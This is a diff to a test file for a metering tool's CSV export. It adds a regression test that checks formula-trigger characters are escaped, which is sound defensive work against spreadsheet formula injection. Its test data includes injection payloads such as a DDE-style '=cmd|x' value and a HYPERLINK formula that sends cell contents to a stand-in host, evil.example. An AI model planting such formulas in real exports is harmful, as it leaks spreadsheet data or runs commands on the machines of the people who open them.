@@ -111,6 +111,30 @@ test("export prints CSV as RFC 4180 has it", async (t) => {
   assert.equal(out.length, 3);
 });
 
+// Finding 15.
+test("a spreadsheet takes no text of a CSV for a formula, and numbers stay numbers", async (t) => {
+  const { run, meter } = await twoCharges(t);
+  const models = ["=1+1", "+1", "-1", "@a", "\ta", "\ra", "\na", "\uff1d1+1", "a=1", " a"];
+  for (const model of models) {
+    const charge = { surface: "chat", method: "=cmd|x", model, costMilli: 7, inputTokens: 3 };
+    await take(meter, principalOf(), 7).settle([charge]);
+  }
+  const { out } = await run(usage, "export", "--format", "csv");
+  const shown = out.slice(3).map((line) => /,chat,'=cmd\|x,(.*),[^,]*,7,3,0,/s.exec(line)?.[1]);
+  assert.deepEqual(shown, [
+    "'=1+1",
+    "'+1",
+    "'-1",
+    "'@a",
+    "'\ta",
+    `"'\ra"`,
+    `"'\na"`,
+    "'\uff1d1+1",
+    "a=1",
+    " a",
+  ]);
+});
+
 test("a spreadsheet takes no request id of a CSV for a formula", async (t) => {
   const { run, meter } = await twoCharges(t);
   const ids = ['=HYPERLINK("http://evil.example/?"&A1)', "+1", "-1", "@SUM(A1)", "a=1"];
@@ -202,7 +226,7 @@ test("a data folder without a journal fails with the remedy", async (t) => {
   const { run, data } = commandLine(t);
   const { code, out, err } = await run(usage, "export");
   assert.deepEqual([code, out], [1, []]);
-  assert.match(err.join("\n"), /^SLUICE_STORE_FAILED {2}there is no journal at /);
+  assert.match(err.join("\n"), /:4:10 {2}SLUICE_STORE_FAILED {2}there is no journal at /);
   assert.ok(err.join("\n").includes(data));
 });
 
